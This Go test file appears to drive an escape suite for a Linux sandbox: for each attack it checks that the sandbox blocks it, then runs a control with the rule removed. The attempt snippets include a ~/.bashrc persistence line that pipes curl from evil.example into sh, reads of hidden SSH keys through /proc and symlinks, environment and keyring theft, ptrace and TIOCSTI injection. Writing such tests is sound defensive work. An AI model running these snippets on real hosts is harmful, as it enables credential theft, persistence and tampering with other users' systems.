//go:build linux

package sandbox

import (
	"bytes"
	"fmt"
	"math/rand/v2"
	"net"
	"os"
	"os/exec"
	"path/filepath"
	"regexp"
	"slices"
	"strconv"
	"strings"
	"syscall"
	"testing"
)

// escAttempts is the whole escape suite, in the order it runs: every list
// of attempts, each in the file named beside it, is here and nowhere else.
// Every snippet gets $WS (the workspace, also its working directory), $OUT
// (a directory outside it that the caller owns), $HOME (a test home whose
// ~/.ssh and ~/.gnupg the table's defaults hide), $SSH_KEY, $PY and
// whatever its setup adds.
var escAttempts = slices.Concat(
	coreAttempts,            // this file
	defaultAttempts,         // escape_defaults_test.go
	namedCredentialAttempts, // escape_derived_more_test.go
	envAttempts,             // escape_env_test.go
	derivedAttempts,         // escape_env_test.go
	gitIncludeAttempts,      // escape_gitinclude_test.go
	gitNestAttempts,         // escape_gitnest_test.go
	limitAttempts,           // escape_limits_test.go
	nvmAttempts,             // escape_nvm_test.go
	placeholderAttempts,     // escape_placeholder_test.go
	protectAttempts,         // escape_protect_test.go
	redactAttempts,          // escape_redact_test.go
	sockDirAttempts,         // escape_sockdirs_test.go
	socketAttempts,          // escape_sockets_test.go
	sockNameAttempts,        // escape_socknames_test.go
	sockPlaceAttempts,       // escape_sockplace_test.go
	stdinCommandAttempts,    // escape_stdio_command_test.go
	stdinNewCmdAttempts,     // escape_stdio_command_test.go
	stdioAttempts,           // escape_stdio_test.go
	toolAttempts,            // escape_tools_test.go
	ttyFlowAttempts,         // escape_ttyflow_test.go
	watchAttempts,           // escape_watch_test.go
	wgetrcAttempts,          // escape_wgetrc_test.go
	wrapAttempts,            // escape_wrap_test.go
)

// passFixtures run at the end of newEscPass, before any attempt (each in
// its list's *_fixtures_test.go): what they add to the shared home or the
// environment is there for every attempt's Explain and Prefix alike. set
// changes the environment until the pass ends.
var passFixtures = []func(t *testing.T, p *escPass, set func(k, v string)){
	defaultFixtures, namedCredentialFixtures, envFixtures, derivedFixtures,
	nvmFixtures, redactFixtures, toolFixtures, wgetrcFixtures,
}

// coreAttempts: writes outside the workspace, hidden paths, namespaces,
// devices, the kernel's interfaces and the network, the suite's first
// lists.
var coreAttempts = []*attempt{
	// ---- writes outside the workspace ----
	{
		name: "etc-write",
		what: "create a file in /etc",
		setup: func(e *escEnv) {
			e.vars["TARGET"] = e.hostTemp("/etc")
		},
		script:  `echo pwned > "$TARGET"`,
		escaped: func(e *escEnv, r *escResult) bool { return exists(e.vars["TARGET"]) },
		control: func(e *escEnv) escMode { return rootOnly(e, swapRule("root-read-only", "--bind", "/", "/")) },
	},
	{
		name: "home-persist",
		what: "append a command to ~/.bashrc",
		setup: func(e *escEnv) {
			rc := filepath.Join(e.home, ".bashrc")
			orig, err := os.ReadFile(rc)
			if err != nil {
				e.t.Fatal(err)
			}
			e.t.Cleanup(func() { os.WriteFile(rc, orig, 0o644) })
		},
		script: `echo 'curl -s evil.example | sh # sandtable' >> "$HOME/.bashrc"`,
		escaped: func(e *escEnv, r *escResult) bool {
			b, _ := os.ReadFile(filepath.Join(e.home, ".bashrc"))
			return bytes.Contains(b, []byte("evil.example"))
		},
		control: func(e *escEnv) escMode { return swapRule("root-read-only", "--bind", "/", "/") },
	},
	{
		name: "var-tmp-write",
		what: "create a file in the host's /var/tmp (world-writable, outlives reboots)",
		setup: func(e *escEnv) {
			e.vars["TARGET"] = e.hostTemp("/var/tmp")
		},
		script:  `echo pwned > "$TARGET"`,
		escaped: func(e *escEnv, r *escResult) bool { return exists(e.vars["TARGET"]) },
		control: func(e *escEnv) escMode {
			m := swapRule("root-read-only", "--bind", "/", "/")
			m.drop = []string{"var-tmp"} // and its -read-only companion
			return m
		},
	},
	{
		name: "var-tmp-store",
		what: "store data in the sandbox's own /var/tmp (memory charged to no process of the command's)",
		setup: func(e *escEnv) {
			e.secret = escToken("var-tmp-store")
			e.vars["TOKEN"] = e.secret
		},
		script:  `echo "$TOKEN" > /var/tmp/stored; cat /var/tmp/stored`,
		control: func(e *escEnv) escMode { return dropRules("var-tmp-read-only") },
	},
	{
		name: "var-tmp-read",
		what: "read another program's world-readable file in the host's /var/tmp",
		setup: func(e *escEnv) {
			e.secret = escToken("var-tmp")
			p := e.hostTemp("/var/tmp")
			if err := os.WriteFile(p, []byte(e.secret), 0o644); err != nil {
				e.t.Fatal(err)
			}
			e.vars["TARGET"] = p
		},
		script:  `cat "$TARGET"; ls /var/tmp`,
		control: func(e *escEnv) escMode { return dropRules("var-tmp") },
	},
	{
		name: "dev-shm-write",
		what: "create a file in the host's /dev/shm",
		setup: func(e *escEnv) {
			if fi, err := os.Stat("/dev/shm"); err != nil || !fi.IsDir() {
				e.t.Skip("no /dev/shm on this host")
			}
			e.vars["TARGET"] = e.hostTemp("/dev/shm")
		},
		script:  `echo pwned > "$TARGET"`,
		escaped: func(e *escEnv, r *escResult) bool { return exists(e.vars["TARGET"]) },
		// Not a rule: --ro-bind / / alone would also make /dev/shm
		// read-only; --dev gives a private one. Outside shows it is a
		// real target.
		control: func(e *escEnv) escMode { return outsideCtl() },
	},
	{
		name: "host-tmp-write",
		what: "create a file that appears in the host's /tmp",
		setup: func(e *escEnv) {
			e.vars["TARGET"] = e.hostTemp("/tmp")
		},
		script:  `echo pwned > "$TARGET"`,
		escaped: func(e *escEnv, r *escResult) bool { return exists(e.vars["TARGET"]) },
		control: func(e *escEnv) escMode { return swapRule("tmp", "--bind", "/tmp", "/tmp") },
	},
	{
		name:    "dotdot-write",
		what:    "write beside the workspace through ..",
		script:  `cd "$WS" && echo pwned > ../dotdot-pwned; echo pwned > "$WS/../../dotdot-pwned2"`,
		escaped: func(e *escEnv, r *escResult) bool { return exists(filepath.Join(e.dir, "dotdot-pwned")) },
		control: func(e *escEnv) escMode { return swapRule("root-read-only", "--bind", "/", "/") },
	},
	{
		name: "symlink-out",
		what: "write through a symlink in the workspace that points outside (planted, and made in the sandbox)",
		setup: func(e *escEnv) {
			link := filepath.Join(e.ws, "link")
			if err := os.Symlink(e.out, link); err != nil {
				e.t.Fatal(err)
			}
			e.chown(e.t, link)
		},
		script: `echo pwned > "$WS/link/planted"; rm -f "$WS/link2"; ln -s "$OUT" "$WS/link2" && echo pwned > "$WS/link2/planted2"`,
		escaped: func(e *escEnv, r *escResult) bool {
			return exists(filepath.Join(e.out, "planted")) || exists(filepath.Join(e.out, "planted2"))
		},
		control: func(e *escEnv) escMode { return swapRule("root-read-only", "--bind", "/", "/") },
	},
	{
		name: "hardlink-out",
		what: "hard-link a host file into the workspace, then write through the link",
		setup: func(e *escEnv) {
			e.file(filepath.Join(e.out, "victim"), "original\n", 0o644)
		},
		script:  `ln "$OUT/victim" "$WS/hl" && echo pwned >> "$WS/hl"`,
		escaped: func(e *escEnv, r *escResult) bool { return fileHas(filepath.Join(e.out, "victim"), "pwned") },
		// link(2) across mounts is EXDEV whatever the rules say, so
		// no single rule is what stops it.
		control: func(e *escEnv) escMode { return outsideCtl() },
	},
	{
		name: "rename-out",
		what: "move a host file into the workspace (deleting it outside)",
		setup: func(e *escEnv) {
			e.file(filepath.Join(e.out, "victim"), "original\n", 0o644)
		},
		script:  `mv "$OUT/victim" "$WS/stolen"`,
		escaped: func(e *escEnv, r *escResult) bool { return !exists(filepath.Join(e.out, "victim")) },
		control: func(e *escEnv) escMode { return swapRule("root-read-only", "--bind", "/", "/") },
	},
	{
		name: "chmod-out",
		what: "chmod a host file outside the workspace",
		setup: func(e *escEnv) {
			e.file(filepath.Join(e.out, "victim"), "original\n", 0o644)
		},
		script: `chmod 0777 "$OUT/victim"`,
		escaped: func(e *escEnv, r *escResult) bool {
			fi, err := os.Stat(filepath.Join(e.out, "victim"))
			return err == nil && fi.Mode().Perm() == 0o777
		},
		control: func(e *escEnv) escMode { return swapRule("root-read-only", "--bind", "/", "/") },
	},
	{
		name: "chown-utime-out",
		what: "chown (root) or back-date (anyone) a host file",
		setup: func(e *escEnv) {
			e.file(filepath.Join(e.out, "victim"), "original\n", 0o644)
		},
		script: `chown 12345:12345 "$OUT/victim"; touch -m -d 2001-01-01 "$OUT/victim"`,
		escaped: func(e *escEnv, r *escResult) bool {
			fi, err := os.Stat(filepath.Join(e.out, "victim"))
			if err != nil {
				return false
			}
			st := fi.Sys().(*syscall.Stat_t)
			return st.Uid == 12345 || fi.ModTime().Year() == 2001
		},
		control: func(e *escEnv) escMode { return swapRule("root-read-only", "--bind", "/", "/") },
	},
	{
		name: "truncate-out",
		what: "truncate an existing host file",
		setup: func(e *escEnv) {
			e.file(filepath.Join(e.out, "victim"), "original\n", 0o644)
		},
		script: `: > "$OUT/victim"`,
		escaped: func(e *escEnv, r *escResult) bool {
			fi, err := os.Stat(filepath.Join(e.out, "victim"))
			return err == nil && fi.Size() == 0
		},
		control: func(e *escEnv) escMode { return swapRule("root-read-only", "--bind", "/", "/") },
	},
	{
		name: "read-path-write",
		what: "write into a read-only grant (Config.Read) inside the workspace",
		setup: func(e *escEnv) {
			ro := e.mkdir(filepath.Join(e.ws, "ro"))
			e.cfg.Read = []string{ro}
		},
		script:  `echo pwned > "$WS/ro/planted"`,
		escaped: func(e *escEnv, r *escResult) bool { return exists(filepath.Join(e.ws, "ro", "planted")) },
		control: func(e *escEnv) escMode { return dropRules("read-path") },
	},

	// ---- mounts ----
	{
		name: "remount-root-rw",
		what: "remount / read-write (directly, and in a nested user namespace) and write the host",
		script: `mount -o remount,bind,rw / || mount -o remount,rw /; echo pwned > "$OUT/remounted"
unshare -Urm sh -c 'mount -o remount,bind,rw / && echo pwned > "$OUT/remounted-nested"'`,
		escaped: func(e *escEnv, r *escResult) bool {
			return exists(filepath.Join(e.out, "remounted")) || exists(filepath.Join(e.out, "remounted-nested"))
		},
		// Either rule alone stops it on bwrap 0.8: --disable-userns
		// puts the child in a nested user namespace, where the
		// mounts are locked.
		control: func(e *escEnv) escMode { return rootOnly(e, dropRules("cap-drop", "disable-userns")) },
	},
	{
		name: "umount-hidden",
		what: "unmount the tmpfs over ~/.ssh and read the key",
		setup: func(e *escEnv) {
			e.secret = e.sshSecret
		},
		script: `umount "$HOME/.ssh" || umount -l "$HOME/.ssh"; cat "$SSH_KEY"
unshare -Urm sh -c 'umount -l "$HOME/.ssh"; cat "$SSH_KEY"'`,
		control: func(e *escEnv) escMode { return rootOnly(e, dropRules("cap-drop", "disable-userns")) },
	},
	{
		name: "mount-propagation",
		what: "mount a tmpfs that shows up in the host's mount table",
		setup: func(e *escEnv) {
			mnt := e.mkdir(filepath.Join(e.out, "mnt"))
			e.vars["MNT"] = mnt
			e.t.Cleanup(func() { syscall.Unmount(mnt, syscall.MNT_DETACH) })
		},
		script: `mount -t tmpfs sandtable-escape "$MNT"; unshare -Urm sh -c 'mount -t tmpfs sandtable-escape "$MNT"'`,
		escaped: func(e *escEnv, r *escResult) bool {
			b, _ := os.ReadFile("/proc/self/mountinfo")
			return bytes.Contains(b, []byte(" "+e.vars["MNT"]+" "))
		},
		// bwrap makes every mount a slave of the host's before the
		// rules run, so no rule is what stops this.
		control: func(e *escEnv) escMode { return capCtl(e, capSysAdmin) },
	},

	// ---- kernel state under /proc and /sys ----
	{
		name: "proc-sys-kernel",
		what: "change a host kernel tunable (/proc/sys/kernel/hung_task_warnings)",
		setup: func(e *escEnv) {
			e.tunable("/proc/sys/kernel/hung_task_warnings", "/proc/sys/fs/lease-break-time")
		},
		script:  `echo $((V + 1)) > "$F"`,
		escaped: tunableChanged,
		control: func(e *escEnv) escMode { return rootOnly(e, dropRules("proc-sys-read-only")) },
	},
	{
		name: "proc-sys-net",
		what: "change a host network tunable through the shared network namespace",
		setup: func(e *escEnv) {
			e.tunable("/proc/sys/net/ipv4/tcp_fin_timeout")
		},
		script:  `echo $((V + 1)) > "$F"`,
		escaped: tunableChanged,
		control: func(e *escEnv) escMode { return rootOnly(e, dropRules("proc-sys-read-only")) },
	},
	{
		name: "sysrq-trigger",
		what: "write /proc/sysrq-trigger ('h' only prints help to the kernel log)",
		setup: func(e *escEnv) {
			if !exists("/proc/sysrq-trigger") {
				e.t.Skip("this kernel has no /proc/sysrq-trigger (CONFIG_MAGIC_SYSRQ off)")
			}
		},
		script:  `echo h > /proc/sysrq-trigger && echo SYSRQ-ACCEPTED`,
		escaped: func(e *escEnv, r *escResult) bool { return strings.Contains(r.out, "SYSRQ-ACCEPTED") },
		// bwrap itself covers it read-only after --proc for a root caller.
		control: func(e *escEnv) escMode { return rootOnly(e, outsideCtl()) },
	},
	{
		name: "sysfs-write",
		what: "change a block device's read_ahead_kb under /sys",
		setup: func(e *escEnv) {
			m, _ := filepath.Glob("/sys/block/*/queue/read_ahead_kb")
			e.tunable(m...)
		},
		script:  `echo $((V + 4)) > "$F"`,
		escaped: tunableChanged,
		control: func(e *escEnv) escMode { return rootOnly(e, swapRule("root-read-only", "--bind", "/", "/")) },
	},
	{
		name:   "cgroup-write",
		what:   "write a knob of a cgroup delegated to the caller (escape or change limits)",
		setup:  setupCgroup,
		script: `echo "$VAL" > "$CG/$KNOB"`,
		escaped: func(e *escEnv, r *escResult) bool {
			return fileHas(filepath.Join(e.vars["CG"], e.vars["KNOB"]), e.vars["VAL"])
		},
		control: func(e *escEnv) escMode { return swapRule("root-read-only", "--bind", "/", "/") },
	},

	// ---- privilege ----
	{
		name:  "nested-userns",
		what:  "create a nested user namespace to regain a full capability set",
		needs: []string{"python3"},
		// unshare(CLONE_NEWUSER) in-process: an exec would drop the
		// capabilities again when no uid is mapped.
		script: `"$PY" -c 'import ctypes, os
if ctypes.CDLL(None, use_errno=True).unshare(0x10000000) != 0:
    raise SystemExit("unshare: " + os.strerror(ctypes.get_errno()))
print([l for l in open("/proc/self/status") if l.startswith("CapEff")][0])'`,
		escaped: func(e *escEnv, r *escResult) bool {
			return regexp.MustCompile(`CapEff:\s*0*[1-9a-f]`).MatchString(r.out)
		},
		control: func(e *escEnv) escMode { return dropRules("disable-userns") },
	},
	{
		name:  "mknod-disk",
		what:  "mknod the host's root block device (then read it raw: hidden files and all)",
		setup: setupRootDevice,
		script: `mknod "$WS/disk" b "$DEV_MAJ" "$DEV_MIN" && head -c 512 "$WS/disk" | wc -c | sed s/^/READ=/
unshare -Urm sh -c 'mknod "$WS/disk2" b "$DEV_MAJ" "$DEV_MIN" && head -c 512 "$WS/disk2" | wc -c | sed s/^/READ=/'`,
		escaped: func(e *escEnv, r *escResult) bool {
			return isDevice(filepath.Join(e.ws, "disk")) || isDevice(filepath.Join(e.ws, "disk2"))
		},
		control: func(e *escEnv) escMode { return capCtl(e, capMknod) },
	},
	{
		name: "raw-disk",
		what: "read the host's root block device through its /dev node",
		setup: func(e *escEnv) {
			setupRootDevice(e)
			f, err := os.Open(e.vars["DISK"])
			if err != nil {
				e.t.Skipf("this host refuses %s even to the test process outside any sandbox (a device cgroup?): %v", e.vars["DISK"], err)
			}
			f.Close()
		},
		script:  `head -c 512 "$DISK" | wc -c | sed s/^/READ=/`,
		escaped: func(e *escEnv, r *escResult) bool { return strings.Contains(r.out, "READ=512") },
		// --dev hides it, and --ro-bind / / is nodev anyway.
		control: func(e *escEnv) escMode { return rootOnly(e, outsideCtl()) },
	},
	{
		name:  "setuid-root",
		what:  "run a setuid-root binary to become root",
		setup: setupSetuid,
		// id prints euid= only when it differs from the real uid.
		script:  `"$SUID_ID"`,
		escaped: func(e *escEnv, r *escResult) bool { return strings.Contains(r.out, "euid=0(") },
		control: func(e *escEnv) escMode {
			if e.u.isRoot() {
				return noCtl("the caller is already uid 0")
			}
			return outsideCtl()
		},
	},
	{
		name:    "open-by-handle",
		what:    "open the hidden ~/.ssh key by file handle (\"shocker\"), bypassing the tmpfs",
		needs:   []string{"python3"},
		setup:   setupHandle,
		script:  `"$PY" -c "$HANDLE_PY" open`,
		control: func(e *escEnv) escMode { return capCtl(e, capDacReadSearch) },
	},
	{
		name:   "hostname",
		what:   "change the host's hostname",
		needs:  []string{"python3"},
		setup:  setupHostname,
		script: `"$PY" -c 'import os, socket; socket.sethostname(os.environ["NEWNAME"])'`,
		escaped: func(e *escEnv, r *escResult) bool {
			h, _ := os.Hostname()
			return h == e.vars["NEWNAME"]
		},
		control: func(e *escEnv) escMode { return capCtl(e, capSysAdmin) },
	},
	{
		name:  "net-config",
		what:  "add an address to the host's loopback interface (network on)",
		needs: []string{"ip"},
		setup: func(e *escEnv) {
			addr := fmt.Sprintf("127.77.%d.%d", rand.IntN(250)+1, rand.IntN(250)+1)
			e.vars["ADDR"] = addr
			e.t.Cleanup(func() { exec.Command(escLook("ip"), "addr", "del", addr+"/32", "dev", "lo").Run() })
		},
		script: `ip addr add "$ADDR/32" dev lo`,
		escaped: func(e *escEnv, r *escResult) bool {
			out, _ := exec.Command(escLook("ip"), "-o", "addr", "show", "dev", "lo").Output()
			return bytes.Contains(out, []byte(" "+e.vars["ADDR"]+"/"))
		},
		control: func(e *escEnv) escMode { return capCtl(e, capNetAdmin) },
	},

	// ---- other processes ----
	{
		name:    "kill-host",
		what:    "SIGKILL a process of the caller's outside the sandbox",
		setup:   func(e *escEnv) { e.startVictim() },
		script:  `kill -9 "$VICTIM_PID"`,
		escaped: func(e *escEnv, r *escResult) bool { return e.victim.killed() },
		control: func(e *escEnv) escMode { return dropRules("unshare-all") },
	},
	{
		name:   "ptrace-host",
		what:   "PTRACE_ATTACH to a process of the caller's and read its memory",
		needs:  []string{"python3"},
		setup:  func(e *escEnv) { e.startVictim(); e.vars["PTRACE_PY"] = ptracePy },
		script: `"$PY" -c "$PTRACE_PY"`,
		// Without the pid namespace the user namespace still stops it
		// (no CAP_SYS_PTRACE over the host's), and for root so does
		// cap-drop: the control takes all of them out.
		control: procCtl,
	},
	{
		name:    "proc-environ",
		what:    "read a host process's environment through /proc/<pid>/environ",
		setup:   func(e *escEnv) { e.startVictim() },
		script:  `tr '\0' '\n' < "/proc/$VICTIM_PID/environ"`,
		control: procCtl,
	},
	{
		name:    "proc-pid-root",
		what:    "read the hidden key through /proc/<host pid>/root",
		setup:   func(e *escEnv) { e.startVictim(); e.secret = e.sshSecret },
		script:  `cat "/proc/$VICTIM_PID/root$SSH_KEY"`,
		control: procCtl,
	},
	{
		name:   "sysv-shm",
		what:   "attach a SysV shared memory segment the caller created",
		needs:  []string{"python3"},
		setup:  setupShm,
		script: `"$PY" -c "$SHM_PY" read`,
		control: func(e *escEnv) escMode {
			return dropRules("unshare-all")
		},
	},

	// ---- hidden paths ----
	{
		name:    "proc-self-root",
		what:    "read the hidden key through /proc/self/root and /proc/self/cwd",
		setup:   func(e *escEnv) { e.secret = e.sshSecret },
		script:  `cat "/proc/self/root$SSH_KEY"; cat /proc/self/cwd/../../home/.ssh/id_ed25519`,
		control: func(e *escEnv) escMode { return dropRules("hide-dir=" + filepath.Dir(e.sshKey)) },
	},
	{
		name:    "proc-1-root",
		what:    "read the hidden key through /proc/1/root",
		setup:   func(e *escEnv) { e.secret = e.sshSecret },
		script:  `cat "/proc/1/root$SSH_KEY"`,
		control: func(e *escEnv) escMode { return dropRules("hide-dir=" + filepath.Dir(e.sshKey)) },
	},
	{
		name:    "symlink-to-hidden",
		what:    "symlink the hidden ~/.ssh into the workspace and read through it",
		setup:   func(e *escEnv) { e.secret = e.sshSecret },
		script:  `rm -f "$WS/keys"; ln -s "$HOME/.ssh" "$WS/keys" && cat "$WS/keys/id_ed25519"`,
		control: func(e *escEnv) escMode { return dropRules("hide-dir=" + filepath.Dir(e.sshKey)) },
	},
	{
		name: "hidden-symlink-target",
		what: "a hidden path that is a symlink: read its target by its real path",
		setup: func(e *escEnv) {
			real := e.mkdir(filepath.Join(e.dir, "real-creds"))
			e.secretFile(filepath.Join(real, "token"))
			link := filepath.Join(e.dir, "creds-link")
			if err := os.Symlink(real, link); err != nil {
				e.t.Fatal(err)
			}
			e.cfg.Hidden = []string{link}
			e.vars["LINK"], e.vars["REAL"] = link, real
		},
		script:  `cat "$REAL/token"; cat "$LINK/token"`,
		control: func(e *escEnv) escMode { return dropRules("hide-dir=" + e.vars["REAL"]) },
	},
	{
		name: "hidden-inside-ws",
		what: "read a hidden directory that lies inside the workspace",
		setup: func(e *escEnv) {
			inner := e.mkdir(filepath.Join(e.ws, "vendor", "secrets"))
			e.secretFile(filepath.Join(inner, "key"))
			e.cfg.Hidden = []string{inner}
		},
		script:  `cat "$WS/vendor/secrets/key"`,
		control: func(e *escEnv) escMode { return dropRules("hide-dir=" + e.cfg.Hidden[0]) },
	},
	{
		name: "hidden-file",
		what: "read a hidden regular file",
		setup: func(e *escEnv) {
			e.cfg.Hidden = []string{e.secretFile(filepath.Join(e.dir, "credentials.json"))}
			e.vars["F"] = e.cfg.Hidden[0]
		},
		script:  `cat "$F"`,
		control: func(e *escEnv) escMode { return dropRules("hide-file=" + e.vars["F"]) },
	},
	{
		name: "hidden-missing",
		what: "a missing hidden path must neither break the spawn nor the other hides",
		setup: func(e *escEnv) {
			d := e.mkdir(filepath.Join(e.dir, "hid"))
			e.secretFile(filepath.Join(d, "key"))
			e.cfg.Hidden = []string{filepath.Join(e.dir, "missing", "deeper"), d}
			e.vars["D"] = d
		},
		script:  `cat "$D/key"`,
		control: func(e *escEnv) escMode { return dropRules("hide-dir=" + e.vars["D"]) },
	},
	{
		name:  "hidden-socket",
		what:  "connect to a hidden unix socket (the socket itself is the hidden path)",
		needs: []string{"python3"},
		setup: func(e *escEnv) {
			sock := filepath.Join(e.dir, "agent.sock")
			e.serveUnix(sock)
			e.cfg.Hidden = []string{sock}
			e.cfg.Network.Mode = NetworkOff
		},
		script:  `"$PY" -c "$CONNECT_PY" "$SOCK"`,
		control: func(e *escEnv) escMode { return dropRules("hide-file=" + e.vars["SOCK"]) },
	},
	{
		name:  "socket-in-hidden-dir",
		what:  "connect to an agent socket in the default-hidden ~/.gnupg (network off)",
		needs: []string{"python3"},
		setup: func(e *escEnv) {
			e.serveUnix(filepath.Join(e.home, ".gnupg", "S.sandtable-"+e.a.name))
			e.cfg.Network.Mode = NetworkOff
		},
		script:  `"$PY" -c "$CONNECT_PY" "$SOCK"`,
		control: func(e *escEnv) escMode { return dropRules("hide-dir=" + filepath.Join(e.home, ".gnupg")) },
	},
	{
		name: "hardlink-elsewhere",
		what: "read a hidden key through another hard link outside every hidden path",
		setup: func(e *escEnv) {
			e.secret = e.sshSecret
			link := filepath.Join(e.dir, "id_ed25519.bak")
			if err := os.Link(e.sshKey, link); err != nil {
				e.t.Fatal(err)
			}
			e.vars["BACKUP"] = link
		},
		script:     `cat "$BACKUP"`,
		documented: "hiding is by path: a second hard link to a hidden file, outside every hidden path, reads it; hide the other path too",
	},

	// ---- network ----
	{
		name: "loopback-tcp",
		what: "reach a host service on 127.0.0.1 with the network off",
		setup: func(e *escEnv) {
			e.cfg.Network.Mode = NetworkOff
			e.serve("tcp", "127.0.0.1:0", func(a net.Addr) { e.vars["PORT"] = strconv.Itoa(a.(*net.TCPAddr).Port) })
		},
		script:  `timeout 5 bash -c 'exec 3<>"/dev/tcp/127.0.0.1/$PORT" && head -n 1 <&3'`,
		control: func(e *escEnv) escMode { return dropRules("unshare-all") },
	},
	{
		name:  "abstract-unix",
		what:  "reach a host abstract unix socket with the network off",
		needs: []string{"python3"},
		setup: func(e *escEnv) {
			e.cfg.Network.Mode = NetworkOff
			name := fmt.Sprintf("sandtable-escape-%x", rand.Uint64())
			e.serve("unix", "@"+name, nil)
			e.vars["SOCK"] = "@" + name // connectPy makes @ a leading NUL
		},
		script:  `"$PY" -c "$CONNECT_PY" "$SOCK"`,
		control: func(e *escEnv) escMode { return dropRules("unshare-all") },
	},

	// ---- what the child inherits ----
	{
		name:    "stripped-env",
		what:    "read ASTRID_SESSION_TOKEN etc. from env, /proc/self/environ and every visible process",
		setup:   func(e *escEnv) { e.secret = e.astrid },
		script:  `env; tr '\0' '\n' < /proc/self/environ; for f in /proc/[0-9]*/environ; do tr '\0' '\n' < "$f"; done 2>/dev/null`,
		control: func(e *escEnv) escMode { return unstrippedCtl() },
	},
	{
		name:    "keyring-session",
		what:    "read a key from the caller's session keyring (keys are not namespaced)",
		needs:   []string{"python3"},
		setup:   setupSessionKey,
		script:  `"$PY" -c "$KEYS_PY"`,
		control: func(e *escEnv) escMode { return dropRules("seccomp") },
		hole:    "seccomp",
	},
	{
		name:    "keyring-user",
		what:    "read a key from the caller's user keyring",
		needs:   []string{"python3"},
		setup:   setupUserKey,
		script:  `"$PY" -c "$KEYS_PY"`,
		control: func(e *escEnv) escMode { return outsideCtl() },
	},
	{
		name:   "inherited-fd",
		what:   "write outside and read a hidden file through a directory descriptor the caller's process holds without close-on-exec",
		setup:  setupInheritedFD,
		script: `echo pwned > "/proc/self/fd/$FD/out/pwned-via-fd"; cat "/proc/self/fd/$FD/hidden/key"`,
		escaped: func(e *escEnv, r *escResult) bool {
			return strings.Contains(r.out, e.secret) || exists(filepath.Join(e.out, "pwned-via-fd"))
		},
		// The control runs the same argv with the directory passed on
		// as the caller's process would without Command's fix; it does
		// not clear the flag on $FD, which a parallel attempt's Command
		// would set again before the control started.
		control: func(e *escEnv) escMode { return realArgvCtl("the directory descriptor inherited") },
	},
	{
		name: "fd-reopen",
		what: "reopen a read-only stdin the caller passed (a host file) for writing via /proc/self/fd/0",
		setup: func(e *escEnv) {
			victim := e.file(filepath.Join(e.out, "victim"), "original\n", 0o644)
			f, err := os.Open(victim)
			if err != nil {
				e.t.Fatal(err)
			}
			e.t.Cleanup(func() { f.Close() })
			e.stdin = f
		},
		script:  `echo pwned > /proc/self/fd/0`,
		escaped: func(e *escEnv, r *escResult) bool { return fileHas(filepath.Join(e.out, "victim"), "pwned") },
		// Command's wrap helper copies a file stdin by the stdio rows; its
		// stdio=as-is passes the file, which reopens read-write.
		control: func(e *escEnv) escMode { return helperCtl([]string{wrapHelperStdioAsIs}, nil) },
	},

	// ---- socket families no namespace covers ----
	{
		name:    "vsock",
		what:    "open and bind an AF_VSOCK socket: the host's vsock port space, which --unshare-net leaves shared",
		needs:   []string{"python3"},
		setup:   setupVsock,
		script:  `"$PY" -c 'import os, socket; s = socket.socket(socket.AF_VSOCK, socket.SOCK_STREAM); s.bind((socket.VMADDR_CID_ANY, socket.VMADDR_PORT_ANY)); print(os.environ["MARK"], s.getsockname())'`,
		control: func(e *escEnv) escMode { return dropSeccomp("refuse-socket-families") },
	},
	{
		name:    "vsock-socketcall",
		what:    "AF_VSOCK through i386's socketcall (int 0x80 from a 64-bit process), whose arguments the filter cannot read",
		needs:   []string{"python3"},
		setup:   setupVsockSocketcall,
		script:  `"$PY" -c "$SOCKETCALL_PY"`,
		control: func(e *escEnv) escMode { return dropSeccomp("refuse-socketcall") },
	},

	// ---- the caller's terminal and lifetime ----
	{
		name:   "tiocsti",
		what:   "push keystrokes into the caller's terminal with TIOCSTI",
		needs:  []string{"python3"},
		setup:  setupTIOCSTI,
		script: `"$PY" -c "$TIOCSTI_PY"`,
		run:    runPty,
		control: func(e *escEnv) escMode {
			if legacyTIOCSTI() != "1" {
				return noCtl("dev.tty.legacy_tiocsti is not 1: the kernel refuses TIOCSTI to everyone without CAP_SYS_ADMIN")
			}
			// Two rules stop it: the new session leaves no terminal to
			// push into, and the seccomp filter refuses the ioctl.
			if nativeSeccomp() == nil {
				return dropRules("new-session")
			}
			return dropRules("new-session", "seccomp")
		},
	},
	{
		name: "tiocsti-interactive",
		what: "TIOCSTI with Config.Interactive, which keeps the caller's terminal for job control",
		setup: func(e *escEnv) {
			if legacyTIOCSTI() != "1" {
				e.t.Skip("dev.tty.legacy_tiocsti is not 1")
			}
			needSeccomp(e)
			setupTIOCSTI(e)
			e.cfg.Interactive = true
		},
		needs:   []string{"python3"},
		script:  `"$PY" -c "$TIOCSTI_PY"`,
		run:     runPty,
		control: func(e *escEnv) escMode { return dropRules("seccomp") },
		hole:    "seccomp",
	},
	{
		name:    "tiocsetd",
		what:    "set the caller's terminal (stdout) to the N_NULL line discipline, dead after the run",
		needs:   []string{"python3"},
		setup:   setupTermAttack,
		script:  `"$PY" -c "$TERM_PY" setd`,
		run:     runPtyState,
		escaped: func(e *escEnv, r *escResult) bool { return !strings.Contains(r.out, "[ldisc] 0\n") },
		control: func(e *escEnv) escMode { return dropSeccomp("refuse-tiocsetd") },
	},
	{
		name: "tiocsetd-interactive",
		what: "N_NULL with Config.Interactive, where the terminal is the command's own",
		setup: func(e *escEnv) {
			setupTermAttack(e)
			e.cfg.Interactive = true
		},
		needs:   []string{"python3"},
		script:  `"$PY" -c "$TERM_PY" setd`,
		run:     runPtyState,
		escaped: func(e *escEnv, r *escResult) bool { return !strings.Contains(r.out, "[ldisc] 0\n") },
		control: func(e *escEnv) escMode { return dropSeccomp("refuse-tiocsetd") },
	},
	{
		name:    "tiocexcl",
		what:    "put the caller's terminal in exclusive mode: the caller's later opens of it fail with EBUSY",
		needs:   []string{"python3"},
		setup:   setupTermAttack,
		script:  `"$PY" -c "$TERM_PY" excl`,
		run:     runPtyState,
		escaped: func(e *escEnv, r *escResult) bool { return !strings.Contains(r.out, "[exclusive] 0\n") },
		control: func(e *escEnv) escMode { return dropSeccomp("refuse-tiocexcl") },
	},
	{
		name: "outlive-parent",
		what: "keep running (and writing) after the process that started bwrap is killed",
		// The grandchild writes its marker only once the test has
		// killed the parent (and said so), so a slow machine cannot
		// make a false escape; the snippet waits for it, up to 10 s.
		script: `touch "$WS/started"
( ( until [ -e "$WS/parent-killed" ]; do sleep 0.05; done; echo alive > "$WS/outlived" ) & )
for i in $(seq 200); do [ -e "$WS/outlived" ] && break; sleep 0.05; done`,
		run:     runOutlive,
		escaped: func(e *escEnv, r *escResult) bool { return exists(filepath.Join(e.ws, "outlived")) },
		control: func(e *escEnv) escMode { return dropRules("die-with-parent") },
	},
}
